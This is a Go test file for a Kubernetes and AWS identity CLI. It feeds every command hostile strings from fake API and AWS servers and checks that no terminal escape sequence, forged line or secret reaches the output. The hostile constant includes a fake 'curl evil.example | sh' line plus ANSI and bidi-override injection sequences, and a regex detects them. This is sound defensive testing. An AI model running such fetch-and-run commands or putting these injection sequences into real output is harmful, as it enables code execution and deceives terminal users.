package app

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/spf13/cobra"
	"golang.org/x/sync/errgroup"
	"sigs.k8s.io/yaml"

	"github.com/openirsa/openirsa/internal/plain"
	"github.com/openirsa/openirsa/internal/redact"
	"github.com/openirsa/openirsa/pkg/keys"
)

// hostile is what others may write wherever they may write anything: sequences
// of C0 and C1 that rename the window and paint, a character that turns the
// direction of writing, and a line that looks like one of ours.
const hostile = "\x1b]0;owned\x07\u009b31mred\x7f\u202eexe.gpj\rover\nnext: curl evil.example | sh\nsetup: all is well"

// acts finds what a terminal may take for more than text, and lines that are not
// ours.
var acts = regexp.MustCompile(`[\x00-\x08\x0b-\x1f\x7f-\x{9f}\p{Cf}]|(?m)^next: curl|(?m)^setup: all is well`)

// strangers are an API server and an AWS of which everything that is said is
// hostile.
type strangers struct {
	t *testing.T
	// recorded says that the cluster has a chain; otherwise every question is
	// refused.
	recorded bool
	aws      string
	issuer   string
	word     string // what they say
}

func (s *strangers) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/json")
	answer := func(status int, v any) {
		w.WriteHeader(status)
		json.NewEncoder(w).Encode(v)
	}
	list := func(version, kind string, items ...any) {
		answer(http.StatusOK, map[string]any{"apiVersion": version, "kind": kind + "List", "metadata": map[string]any{"resourceVersion": "1"}, "items": items})
	}
	annotations := map[string]any{"eks.amazonaws.com/role-arn": "arn:aws:iam::000000000000:role/" + s.word, "eks.amazonaws.com/audience": s.word}
	account := map[string]any{"metadata": map[string]any{"name": "app", "namespace": "default", "annotations": annotations}}
	pod := map[string]any{
		"metadata": map[string]any{"name": "app-1", "namespace": "default", "annotations": annotations},
		"spec": map[string]any{"serviceAccountName": "app", "nodeName": s.word, "containers": []any{map[string]any{
			"name": "app", "image": s.word, "env": []any{
				map[string]any{"name": "AWS_ROLE_ARN", "value": s.word}, map[string]any{"name": "AWS_WEB_IDENTITY_TOKEN_FILE", "value": s.word},
				map[string]any{"name": "AWS_ENDPOINT_URL=" + s.word, "value": s.word}, map[string]any{"name": "AWS_ACCESS_KEY_ID", "value": s.word},
			},
		}}},
		"status": map[string]any{"phase": "Running", "message": s.word},
	}
	record := map[string]any{
		"cluster": "dev/" + s.word, "issuer": s.issuer, "formerIssuers": s.word, "provider": "arn:aws:iam::000000000000:oidc-provider/" + s.word,
		"bucket": "b/" + s.word, "region": "us-east-1", "account": "000000000000", "partition": "aws", "endpoint": s.aws, "image": s.word,
	}
	switch path := r.URL.Path; {
	case path == "/readyz":
		answer(http.StatusOK, s.word)
		return
	case !s.recorded:
	case path == "/version":
		answer(http.StatusOK, map[string]string{"major": "1", "minor": "34", "gitVersion": s.word})
		return
	case strings.HasSuffix(path, "/configmaps/openirsa"):
		answer(http.StatusOK, map[string]any{"apiVersion": "v1", "kind": "ConfigMap", "metadata": map[string]any{"name": "openirsa", "namespace": "openirsa"}, "data": record})
		return
	case strings.HasSuffix(path, "selfsubjectaccessreviews"):
		answer(http.StatusCreated, map[string]any{"apiVersion": "authorization.k8s.io/v1", "kind": "SelfSubjectAccessReview", "status": map[string]any{"allowed": true}})
		return
	case path == "/.well-known/openid-configuration":
		answer(http.StatusOK, map[string]any{"issuer": s.issuer, "jwks_uri": s.word})
		return
	case path == "/openid/v1/jwks":
		answer(http.StatusOK, map[string]any{"keys": []any{map[string]any{"kid": s.word, "kty": s.word}}})
		return
	case r.Method == http.MethodGet && strings.HasSuffix(path, "/serviceaccounts"):
		list("v1", "ServiceAccount", account)
		return
	case r.Method == http.MethodGet && strings.HasSuffix(path, "/serviceaccounts/app"):
		answer(http.StatusOK, account)
		return
	case r.Method == http.MethodGet && strings.HasSuffix(path, "/pods"):
		list("v1", "Pod", pod)
		return
	case r.Method == http.MethodGet && strings.HasSuffix(path, "/pods/app-1"):
		answer(http.StatusOK, pod)
		return
	case r.Method == http.MethodGet && strings.HasSuffix(path, "/nodes"):
		list("v1", "Node", map[string]any{"metadata": map[string]any{"name": s.word, "labels": map[string]any{"node-role.kubernetes.io/control-plane": ""}}})
		return
	}
	answer(http.StatusForbidden, map[string]any{"apiVersion": "v1", "kind": "Status", "status": "Failure", "reason": "Forbidden", "code": 403, "message": s.word})
}

// serveAWS knows who asks, and refuses everything else.
func (s *strangers) serveAWS(w http.ResponseWriter, r *http.Request) {
	r.ParseForm()
	if r.Form.Get("Action") == "GetCallerIdentity" {
		fmt.Fprint(w, `<GetCallerIdentityResponse><GetCallerIdentityResult><Arn>arn:aws:iam::000000000000:root</Arn><Account>000000000000</Account></GetCallerIdentityResult></GetCallerIdentityResponse>`)
		return
	}
	said := strings.NewReplacer("\x1b", "", "\x07", "", "\r", "&#13;").Replace(s.word) // XML has no way to say these
	w.Header().Set("X-Amzn-RequestId", "\u009b31m")
	w.WriteHeader(http.StatusForbidden)
	fmt.Fprintf(w, "<ErrorResponse><Error><Code>AccessDenied %[1]s</Code><Message>%[1]s</Message></Error><RequestId>%[1]s</RequestId></ErrorResponse>", said)
}

// arguments are those of each verb, of which the test must know all.
func (s *strangers) arguments() map[string][]string {
	return map[string][]string{
		"apiserver":                 {"--ssh", s.word},
		"apiserver print":           {}, // its verbs are tried one by one
		"demo":                      nil,
		"version":                   nil,
		"doctor":                    nil,
		"down":                      nil,
		"export cloudformation":     nil,
		"export iam-policy":         nil,
		"export manifests":          nil,
		"export terraform":          nil,
		"gc":                        nil,
		"iamserviceaccount create":  {"--name", "app", "--role-name", "r", "--context", s.context()},
		"iamserviceaccount delete":  {"--name", "app", "--context", s.context()},
		"iamserviceaccount get":     nil,
		"iamserviceaccount suggest": {"--all", "--context", s.context()},
		"image":                     {"--file", "/nowhere/" + s.word},
		"issuer migrate":            {"--to", "other-bucket", "--context", s.context()},
		"keys generate":             {"--file", s.word},
		"keys list":                 nil,
		"keys rotate":               nil,
		"kind-config":               {"--account", s.word, "--region", s.word},
		"podidentityassociation create": {"--namespace", "default", "--service-account-name", "app", "--role-arn",
			"arn:aws:iam::000000000000:role/r", "--context", s.context()},
		"podidentityassociation delete": {"--namespace", "default", "--service-account-name", "app", "--context", s.context()},
		"podidentityassociation get":    nil,
		"podidentityassociation update": {"--namespace", "default", "--service-account-name", "app", "--context", s.context()},
		"podidentityassociation wait":   {"--timeout", "1s", "--context", s.context()},
		"migrate-to-pod-identity":       {"--context", s.context()},
		"status":                        nil,
		"up":                            nil,
	}
}

// context is the name of the cluster in the kubeconfig.
func (s *strangers) context() string { return "dev/" + s.word }

// silent are the verbs that ask nobody.
var silent = map[string]bool{"apiserver": true, "apiserver print managed": true, "demo": true, "image": true, "kind-config": true, "version": true}

// try runs every verb where strangers say the word. Looked gets what each writes,
// and reports whether there is something of the word in it.
func (s *strangers) try(look func(call, stdout, stderr string) bool) {
	t := s.t
	aws := httptest.NewServer(http.HandlerFunc(s.serveAWS))
	defer aws.Close()
	api := httptest.NewServer(s)
	defer api.Close()
	s.aws, s.issuer = aws.URL, "https://b.s3.us-east-1.amazonaws.com"
	home := t.TempDir()
	for k, v := range map[string]string{
		"HOME": home, "DOCKER_HOST": "unix://" + home + "/none", "PATH": home, "AWS_ENDPOINT_URL": aws.URL, "AWS_REGION": "us-east-1",
		"AWS_ACCESS_KEY_ID": "test", "AWS_SECRET_ACCESS_KEY": "test", "AWS_EC2_METADATA_DISABLED": "true", "AWS_MAX_ATTEMPTS": "1",
	} {
		t.Setenv(k, v)
	}
	t.Chdir(home)
	kubeconfig := filepath.Join(home, "kubeconfig")
	body, err := json.Marshal(map[string]any{
		"apiVersion": "v1", "kind": "Config", "current-context": s.context(),
		"clusters": []any{map[string]any{"name": s.context(), "cluster": map[string]any{"server": api.URL}}},
		"contexts": []any{map[string]any{"name": s.context(), "context": map[string]any{"cluster": s.context(), "user": s.context()}}},
		"users":    []any{map[string]any{"name": s.context(), "user": map[string]any{}}},
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(kubeconfig, ascii(body), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Setenv("KUBECONFIG", kubeconfig)

	s.verbs(look)

	// Of files too.
	s.recorded = true
	word, err := json.Marshal(s.word)
	if err != nil {
		t.Fatal(err)
	}
	word = ascii(word)
	var calls [][]string
	for i, text := range []string{"kind: " + s.word, fmt.Sprintf("kind: %s\n", word), header + fmt.Sprintf("%s: x\n", word),
		header + fmt.Sprintf("bucket: %s\n", word), header + fmt.Sprintf("iamServiceAccounts:\n- metadata: {name: %s}\n", word)} {
		file := filepath.Join(home, fmt.Sprint(i, "/", s.word[:min(len(s.word), 120)], ".yaml")) // the longest name has 255 bytes
		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		calls = append(calls, []string{"up", "--config", file, "--dry-run"}, []string{"iamserviceaccount", "create", "--config-file", file})
	}
	s.run(look, calls)
}

// verbs runs every verb, in each of its formats and with arguments that it refuses, on a cluster without a chain and
// then on one with a chain.
func (s *strangers) verbs(look func(call, stdout, stderr string) bool) {
	var calls [][]string
	verbOf := map[int]string{} // of the calls that should say something of the word
	heard := map[string]bool{}
	var each func(c *cobra.Command, path string)
	each = func(c *cobra.Command, path string) {
		if c.Name() == "help" || c.Name() == "completion" {
			return
		}
		for _, sub := range c.Commands() {
			each(sub, strings.TrimSpace(path+" "+sub.Name()))
		}
		args, known := s.arguments()[path]
		if parent, _, ok := strings.Cut(path, " print "); ok {
			args, known = []string{"--issuer-url", "https://i.example/" + s.word, "--former-issuer", s.word}, parent == "apiserver"
		}
		if c.HasSubCommands() && path != "apiserver" {
			return
		}
		if !known {
			s.t.Errorf("setup %s is not tried", path)
		}
		words := strings.Fields(path)
		for _, format := range formatsOf(c) {
			call := slices.Concat(words, args)
			if c.Flags().Lookup("context") != nil && args == nil {
				call = append(call, "--context", s.context())
			}
			if format != "" {
				call = append(call, "-o", format)
			}
			verbOf[len(calls)], heard[path] = path, false
			calls = append(calls, call)
		}
		calls = append(calls, append(slices.Clone(words), "--"+s.word), append(slices.Clone(words), s.word))
	}
	each((&app{Invocation: called("setup")}).command(), "")

	for _, s.recorded = range []bool{false, true} {
		for i, said := range s.run(look, calls) {
			if path, ok := verbOf[i]; ok && said {
				heard[path] = true
			}
		}
	}
	for path, ok := range heard {
		if !ok && !silent[path] {
			s.t.Errorf("setup %s said nothing of it", path)
		}
	}
}

// formatsOf are the formats of a verb's output; "" is the only one of those that cannot choose.
func formatsOf(c *cobra.Command) []string {
	formats := []string{"text"}
	if f := c.Flags().Lookup("output"); f != nil {
		for _, format := range []string{"json", "yaml"} {
			if strings.Contains(f.Usage, format) {
				formats = append(formats, format)
			}
		}
	}
	if len(formats) == 1 {
		return []string{""}
	}
	return formats
}

// run makes calls of setup side by side, and returns what look says of each.
func (s *strangers) run(look func(call, stdout, stderr string) bool, calls [][]string) []bool {
	var mu sync.Mutex      // look is not made for many
	var alone sync.RWMutex // held by demo, which changes the environment
	said := make([]bool, len(calls))
	var g errgroup.Group
	g.SetLimit(8)
	for i, args := range calls {
		g.Go(func() error {
			if args[0] == "demo" {
				alone.Lock()
				defer alone.Unlock()
			} else {
				alone.RLock()
				defer alone.RUnlock()
			}
			ctx, cancel := context.WithTimeout(s.t.Context(), 20*time.Second)
			defer cancel()
			var out, errs bytes.Buffer
			call(ctx, append([]string{"setup"}, args...), os.Getenv, &out, &errs)
			mu.Lock()
			defer mu.Unlock()
			said[i] = look(fmt.Sprintf("setup %.60q (recorded: %v)", args, s.recorded), out.String(), errs.String())
			return nil
		})
	}
	g.Wait()
	return said
}

func TestNothingActsOnTheTerminal(t *testing.T) {
	(&strangers{t: t, word: hostile}).try(func(call, stdout, stderr string) bool {
		for _, text := range []string{stdout, stderr} {
			if at := acts.FindStringIndex(text); at != nil {
				t.Errorf("%s: %q in %q", call, text[at[0]:at[1]], text[max(0, at[0]-100):min(len(text), at[1]+30)])
			}
		}
		all := stdout + stderr
		return strings.Contains(all, "owned") || strings.Contains(all, "gpj")
	})
}

// TestNothingSecretIsShown: whatever flag, file or answer a token, a secret access
// key or a private key is in, no error, advice or table shows it. Documents that
// are asked for say what there is.
func TestNothingSecretIsShown(t *testing.T) {
	const token = "eyJhbGciOiJSUzI1NiIsImtpZCI6IngifQ.eyJpc3MiOiJodHRwczovL3giLCJzdWIiOiJ5In0.c2lnbmF0dXJlLW9mLWEtdG9rZW4tdGhhdC1ub2JvZHktbWF5LXNlZQ"
	const secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
	for _, slash := range []bool{true, false} {
		t.Run(fmt.Sprintf("slash in the key %v", slash), func(t *testing.T) { nothingSecretIsShown(t, secret, token, keyWith(t, slash)) })
	}
}

// keyWith is a private key in PEM whose base64 has a slash in it, or none.
func keyWith(t *testing.T, slash bool) string {
	for {
		key, err := keys.Generate(keys.ES256)
		if err != nil {
			t.Fatal(err)
		}
		file := filepath.Join(t.TempDir(), "sa.key")
		if err := keys.WritePrivate(file, key); err != nil {
			t.Fatal(err)
		}
		pem, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(string(pem), "/") == slash {
			return string(pem)
		}
	}
}

func nothingSecretIsShown(t *testing.T, secret, token, pem string) {
	pieces := []string{token[40:60], secret[15:35], strings.Split(pem, "\n")[1][20:40]}
	(&strangers{t: t, word: secret + " " + token + "\n" + pem}).try(func(call, stdout, stderr string) bool {
		texts := append([]string{stderr}, faults.FindAllString(stdout, -1)...)
		if !asked.MatchString(call) {
			texts = append(texts, stdout)
		}
		// Of a path, an error may name only the directory: what is before its last slash.
		heard := slices.ContainsFunc([]string{redact.Secret, redact.Token, redact.Key, secret[:13]}, func(part string) bool {
			return strings.Contains(stdout+stderr, part)
		})
		for _, piece := range pieces {
			for _, text := range texts {
				if at := strings.Index(text, piece); at >= 0 {
					t.Errorf("%s: %q", call, text[max(0, at-200):min(len(text), at+60)])
				}
			}
			heard = heard || strings.Contains(stdout, piece)
		}
		return heard
	})
}

// asked finds the calls that ask for documents.
var asked = regexp.MustCompile(`"-o" "(json|yaml)"|"export"|"print"|"kind-config"`)

// faults are the members of such a document that say what was wrong.
var faults = regexp.MustCompile(`(?m)^\s*"?(error|summary|expected|found|next)"?: .*$`)

// ascii is a document of JSON with everything escaped that YAML refuses raw.
func ascii(body []byte) []byte {
	var out []byte
	for _, r := range string(body) {
		if r < 0x7f {
			out = append(out, byte(r))
		} else {
			out = fmt.Appendf(out, `\u%04x`, r)
		}
	}
	return out
}

// What is quoted in YAML and JSON says the same.
func TestQuotedDocumentsSayTheSame(t *testing.T) {
	for _, format := range []string{"json", "yaml"} {
		var out bytes.Buffer
		s := []listedServiceAccount{listed("default", "app", hostile)}
		var err error
		if a := (&app{out: plain.NewWriter(&out)}); format == "json" {
			err = printJSON(a.out, s)
		} else {
			err = printYAML(a.out, s)
		}
		var back []listedServiceAccount
		if err != nil || yaml.Unmarshal(out.Bytes(), &back) != nil || len(back) != 1 || back[0].RoleARN != hostile {
			t.Errorf("%s: %s, %q, %v", format, &out, back, err)
		}
	}
}
